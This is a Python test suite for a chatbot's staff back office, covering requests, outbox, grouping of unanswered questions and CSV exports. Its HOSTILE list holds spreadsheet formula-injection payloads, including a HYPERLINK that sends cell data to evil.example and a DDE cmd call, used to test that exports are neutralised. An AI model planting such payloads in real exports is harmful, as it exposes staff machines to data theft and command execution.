"""What staff see: requests, outbox, ledger, unanswered questions, feedback, from Python and the CLI."""

import csv
import io
import json
import sqlite3

import pytest
from click.testing import CliRunner

from assistant import Assistant
from assistant.backoffice import grouping, transcripts
from assistant.backoffice.backends import Request
from assistant.backoffice.store import open_store
from assistant.channels import csvexport, tables
from assistant.channels.cli import cli
from assistant.curation.live import Live
from assistant.staff import queries as staff


def test_requests_are_listed_filtered_and_shown(fresh, converse):
    converse("exo", "je voudrais une démo", "Karim Benali, karim@exemple.dz", "Sonatrach", "oui")
    converse("exo", "je veux parler à quelqu'un")
    assert {r["kind"] for r in staff.requests(fresh.store)} == {"demo", "contact"}
    [demo] = staff.requests(fresh.store, kind="demo")
    shown = staff.request(fresh.store, demo["reference"])
    assert shown["payload"]["company"] == "Sonatrach" and len(shown["notices"]) == 2
    assert staff.requests(fresh.store, tenant="conex") == []


def test_unanswered_questions_are_grouped_most_frequent_first(fresh):
    for message in ("recette de crêpes ?", "une recette de crêpes svp", "recette crepes", "qui a gagné le match ?"):
        fresh.reply("exo", None, message)
    groups = staff.unanswered(fresh.store, tenant="exo")
    assert groups[0]["count"] == 3 and "crêpes" in groups[0]["question"]
    assert groups[1]["count"] == 1


def test_a_not_helpful_vote_is_stored_and_joins_the_unanswered(fresh):
    sid = fresh.reply("exo", None, "combien de temps dure l'essai ?").session_id
    fresh.feedback(sid, helpful=False, comment="pas clair")
    [row] = fresh.store.rows("feedback")
    assert row["helpful"] == 0 and row["comment"] == "pas clair"
    assert staff.unanswered(fresh.store)[0]["reasons"] == ["not_helpful"]


def test_the_commands_print_json_and_csv(assistant):
    assistant.reply("exo", None, "recette de crêpes ?")
    runner = CliRunner()
    groups = json.loads(runner.invoke(cli, ["unanswered", "--json", "--limit", "10000"]).stdout)
    assert any("crêpes" in g["question"] for g in groups)
    ledger = list(csv.DictReader(io.StringIO(runner.invoke(cli, ["ledger", "--csv"]).stdout)))
    assert [row["account"] for row in ledger] == ["SX-1001", "SX-1002", "SX-1003", "SX-1004", "SX-1005"]
    assert runner.invoke(cli, ["outbox"]).exit_code == 0
    assert runner.invoke(cli, ["requests", "--kind", "quote"]).exit_code == 0
    missing = runner.invoke(cli, ["requests", "show", "QUO-NOPE"])
    assert missing.exit_code == 2 and "QUO-NOPE" in missing.output


def test_the_outbox_prints_one_line_an_email_and_one_email_whole(fresh, converse, monkeypatch):
    converse("exo", "je voudrais une démo", "Karim Benali, karim@exemple.dz", "Sonatrach", "oui")
    monkeypatch.setattr("assistant.channels.cli._live", lambda: Live(fresh, None))
    runner = CliRunner()
    mails = staff.outbox(fresh.store)
    assert len(mails) == 2 and all(mail["body"].count("\n") >= 3 for mail in mails)
    listed = runner.invoke(cli, ["outbox"])
    header, *lines = listed.stdout.splitlines()
    assert header.split() == ["id", "created", "reference", "tenant", "recipient", "subject", "body"]
    assert [line.split()[0] for line in lines] == [str(mail["id"]) for mail in mails]
    assert all(line.endswith("…") for line in lines) and lines[-1].endswith(
        "Bonjour, ↵ Nous avons bien reçu votre demande (…"
    )
    assert "assistant outbox show ID" in listed.stderr
    visitor = mails[-1]
    whole = runner.invoke(cli, ["outbox", "show", str(visitor["id"])])
    assert whole.exit_code == 0 and whole.stdout.endswith(visitor["body"] + "\n")
    assert f"To: {visitor['recipient']}" in whole.stdout and mails[0]["body"] not in whole.stdout
    both = runner.invoke(cli, ["outbox", "show", visitor["reference"]]).stdout
    assert both.index(visitor["body"]) < both.index(mails[0]["body"])  # in the order they were sent
    missing = runner.invoke(cli, ["outbox", "show", "QUO-NOPE"])
    assert missing.exit_code == 2 and "QUO-NOPE" in missing.stderr


def test_a_table_cell_is_one_line_and_says_when_it_is_cut():
    rows = [{"id": 1, "body": "Bonjour,\n\n  Votre code : 123456.\nMerci"}, {"id": 22, "body": "x" * 80}]
    header, first, second = tables.table(rows, ["id", "body"])
    assert first == "1   Bonjour, ↵ Votre code : 123456. ↵ Merci"
    assert second == "22  " + "x" * (tables.WIDEST - 1) + "…"
    assert header == "id  body"


# -- unanswered questions, grouped as they arrive ---------------------------------------------------


def test_each_unanswered_question_is_linked_to_its_group_as_it_arrives(fresh):
    for message in ("recette de crêpes ?", "une recette de crêpes svp", "qui a gagné le match ?"):
        fresh.reply("exo", None, message)
    rows = fresh.store.rows("unanswered", order_by="id")
    groups = {g["id"]: g for g in fresh.store.rows("unanswered_groups")}
    assert [groups[r["group_id"]]["count"] for r in rows] == [2, 2, 1]
    listed = staff.unanswered(fresh.store, tenant="exo")
    assert [(g["id"], g["count"]) for g in listed] == [(rows[0]["group_id"], 2), (rows[2]["group_id"], 1)]
    assert listed[0]["examples"] == ["recette de crêpes ?", "une recette de crêpes svp"]


def test_a_question_is_compared_with_a_bounded_number_of_recent_groups(fresh, monkeypatch):
    """However many groups visitors have made, a new question reads and compares at most
    CANDIDATES of them: its tenant's most recently seen."""
    monkeypatch.setattr(grouping, "CANDIDATES", 3)
    compared = []
    extract = grouping.process.extractOne
    monkeypatch.setattr(
        grouping.process,
        "extractOne",
        lambda key, choices, **kw: (compared.append(len(choices)), extract(key, choices, **kw))[1],
    )
    log = lambda tenant, text: fresh.backoffice.log_unanswered(tenant, "fr", text, [], "s" * 16)  # noqa: E731
    for text in ("recette de crêpes", "horaires de la piscine", "météo de demain", "score du match", "prix du pain"):
        log("exo", text)
    log("conex", "météo de demain")  # another tenant's groups are not candidates
    log("exo", "score du match hier")  # among the 3 most recent: joins its group
    log("exo", "une recette de crêpes")  # seen before the last 3: starts a group of its own
    assert max(compared) == 3
    counts = {g["question"]: g["count"] for g in staff.unanswered(fresh.store, "exo")}
    assert counts == {
        "score du match": 2,
        "recette de crêpes": 1,
        "une recette de crêpes": 1,
        "horaires de la piscine": 1,
        "météo de demain": 1,
        "prix du pain": 1,
    }


def test_a_long_question_is_compared_by_its_first_words_only():
    long = "je voudrais savoir " + "vraiment " * 400 + "la fin"
    assert len(grouping.key_of(long)) <= grouping.KEY_LENGTH and grouping.key_of(long).startswith("je voudrais savoir")


def test_a_database_with_ungrouped_questions_is_grouped_when_opened(tmp_path):
    path = tmp_path / "assistant.db"
    old = sqlite3.connect(path, isolation_level=None)
    old.execute(
        "create table unanswered (id integer primary key, tenant text, lang text, message text, "
        "candidates text, reason text, session_id text, created text)"
    )
    for n, (tenant, message, reason) in enumerate(
        [
            ("exo", "recette de crêpes ?", "fallback"),
            ("exo", "une recette de crêpes svp", "not_helpful"),
            ("conex", "recette de crêpes ?", "fallback"),
            ("exo", "qui a gagné le match ?", "fallback"),
        ]
    ):
        old.execute(
            "insert into unanswered (tenant, lang, message, reason, created) values (?, 'fr', ?, ?, ?)",
            [tenant, message, reason, f"2026-01-0{n + 1}T10:00:00+00:00"],
        )
    old.close()
    store = open_store(path)
    assert all(r["group_id"] for r in store.rows("unanswered"))
    [crepes, match] = staff.unanswered(store, "exo")
    assert (crepes["count"], crepes["reasons"], crepes["last"]) == (
        2,
        ["fallback", "not_helpful"],
        "2026-01-02T10:00:00+00:00",
    )
    assert match["count"] == 1 and [g["count"] for g in staff.unanswered(store, "conex")] == [1]
    open_store(path)  # opening it again groups nothing twice
    assert sum(g["count"] for g in staff.unanswered(store)) == 4


def test_unanswered_groups_are_paged_most_frequent_then_most_recent_first(fresh):
    for text, times in (("prix du pain", 1), ("score du match", 3), ("météo de demain", 1), ("horaires piscine", 2)):
        for _ in range(times):
            fresh.backoffice.log_unanswered("exo", "fr", text, [], "s" * 16)
    order = [g["question"] for g in staff.unanswered(fresh.store, ["exo", "conex"])]
    assert order[:2] == ["score du match", "horaires piscine"] and set(order[2:]) == {"prix du pain", "météo de demain"}
    assert [g["question"] for g in staff.unanswered(fresh.store, "exo", limit=2, offset=1)] == order[1:3]
    assert staff.unanswered(fresh.store, []) == []


# -- requests refer to their conversation ------------------------------------------------------------


def payload_bytes(store) -> int:
    return store.value("select coalesce(sum(length(payload)), 0) from requests")


def test_asking_for_a_person_again_and_again_stores_no_copy_of_the_conversation(fresh, converse):
    """What is stored grows with what visitors type, not with its square: each contact request
    refers to the conversation, whatever its length, rather than copying it."""
    grown = []
    for chatter in (2, 40):
        before = payload_bytes(fresh.store)
        converse(
            "exo", *["quelle est votre politique de remboursement ?"] * chatter, *["je veux parler à quelqu'un"] * 5
        )
        grown.append(payload_bytes(fresh.store) - before)
    assert len(staff.requests(fresh.store, kind="contact")) == 10
    assert grown[1] <= grown[0] + 5 * 3 and grown[1] < 5 * 120  # a few more digits of turn ids, no more
    notice = staff.outbox(fresh.store, "exo", limit=1)[0]
    assert "remboursement" not in notice["body"] and notice["subject"].startswith("Demande de contact")


def test_a_contact_request_shows_its_conversation_up_to_the_request(fresh, converse):
    replies = converse(
        "exo", "combien de temps dure l'essai ?", "je veux parler à quelqu'un", "merci", "je veux parler à quelqu'un"
    )
    first, second = (r["action"]["reference"] for r in (replies[1], replies[3]))
    shown = staff.request(fresh.store, first)
    assert [t["user"] for t in shown["transcript"]] == ["combien de temps dure l'essai ?", "je veux parler à quelqu'un"]
    assert shown["transcript"][1]["assistant"] == replies[1]["reply"] and shown["transcript_turns"] == 2
    assert staff.request(fresh.store, second)["transcript_turns"] == 4
    assert [r["summary"] for r in staff.requests(fresh.store)] == ["", ""]


def test_a_detail_shows_at_most_the_last_turns_of_a_long_conversation(fresh, converse, monkeypatch):
    monkeypatch.setattr(transcripts, "TRANSCRIPT_TURNS", 3)
    monkeypatch.setattr(staff, "transcript", lambda store, payload: transcripts.transcript(store, payload, 3))
    replies = converse("exo", "un", "deux", "trois", "quatre", "je veux parler à quelqu'un")
    shown = staff.request(fresh.store, replies[-1]["action"]["reference"])
    assert [t["user"] for t in shown["transcript"]] == ["trois", "quatre", "je veux parler à quelqu'un"]
    assert shown["transcript_turns"] == 5


def test_a_request_of_an_earlier_version_shows_the_transcript_it_holds(fresh):
    fresh.store.insert(
        "requests",
        {
            "reference": "CON-OLD",
            "key": "k",
            "tenant": "exo",
            "kind": "contact",
            "status": "submitted",
            "session_id": "s" * 16,
            "lang": "fr",
            "created": "2026-01-01",
            "payload": json.dumps({"transcript": [{"user": "allô", "assistant": ""}]}),
        },
    )
    shown = staff.request(fresh.store, "CON-OLD")
    assert shown["transcript"] == [{"user": "allô", "assistant": ""}] and "transcript" not in shown["payload"]


def test_a_requests_summary_is_short(fresh):
    fresh.backoffice.submit(
        Request("exo", "demo", {"name": "N" * 300, "email": "a@b.example", "company": "C"}, "s" * 16, "fr", "long-name")
    )
    [row] = staff.requests(fresh.store)
    assert len(row["summary"]) == staff.SUMMARY_LENGTH and row["summary"].endswith("…")


# -- the command line: pages and safe CSV -------------------------------------------------------------

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1, "clic")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


@pytest.fixture
def cli_store(bundle, tmp_path, monkeypatch):
    """An assistant on the database the commands read."""
    monkeypatch.setenv("ASSISTANT_DB", str(tmp_path / "cli.db"))
    return Assistant(bundle, open_store(tmp_path / "cli.db"))


def test_csv_exports_neutralise_what_a_spreadsheet_would_run(cli_store):
    for n, text in enumerate(HOSTILE):  # each in a tenant of its own: "\t=1" and "\r=1" would be one group
        cli_store.backoffice.log_unanswered(sorted(cli_store.tenants)[n % 5], "fr", text, [], "s" * 16)
        cli_store.backoffice.submit(
            Request(
                "exo", "demo", {"name": text, "email": f"v{n}@exemple.dz", "company": text}, "s" * 16, "fr", f"key-{n}"
            )
        )
    runner = CliRunner()
    groups = list(csv.DictReader(io.StringIO(runner.invoke(cli, ["unanswered", "--csv"]).stdout)))
    assert sorted(g["question"] for g in groups) == sorted("'" + text for text in HOSTILE)
    summaries = [r["summary"] for r in csv.DictReader(io.StringIO(runner.invoke(cli, ["requests", "--csv"]).stdout))]
    assert sorted(summaries) == sorted(f"'{text} · v{n}@exemple.dz · {text}" for n, text in enumerate(HOSTILE))
    assert all(not cell.startswith(csvexport.FORMULA_STARTS) for row in groups for cell in row.values())


def test_the_commands_print_a_page_and_say_how_to_get_the_next(cli_store):
    for text in ("prix du pain", "score du match", "météo de demain"):
        cli_store.backoffice.log_unanswered("exo", "fr", text, [], "s" * 16)
    runner = CliRunner()
    first = runner.invoke(cli, ["unanswered", "--json", "--limit", "2"])
    assert len(json.loads(first.stdout)) == 2 and "--offset 2" in first.stderr
    rest = runner.invoke(cli, ["unanswered", "--json", "--limit", "2", "--offset", "2"])
    assert len(json.loads(rest.stdout)) == 1 and rest.stderr == ""
    assert runner.invoke(cli, ["outbox", "--limit", "0"]).exit_code == 2


def test_a_group_started_after_the_comparison_is_joined_not_split(fresh):
    """Questions are compared with the groups before the write lock is taken; a group another
    worker starts meanwhile is still found inside the transaction."""
    store = fresh.store
    seen = grouping.closest_seen(store, "exo", "do you sell bicycles?")
    fresh.backoffice.log_unanswered("exo", "en", "do you sell bicycles", [], "s1")  # another worker, meanwhile
    with store.transaction():
        grouping.group_question(store, "exo", "en", "do you sell bicycles?", "fallback", "2026-12-07", seen)
    assert [row["count"] for row in store.rows("unanswered_groups")] == [2]
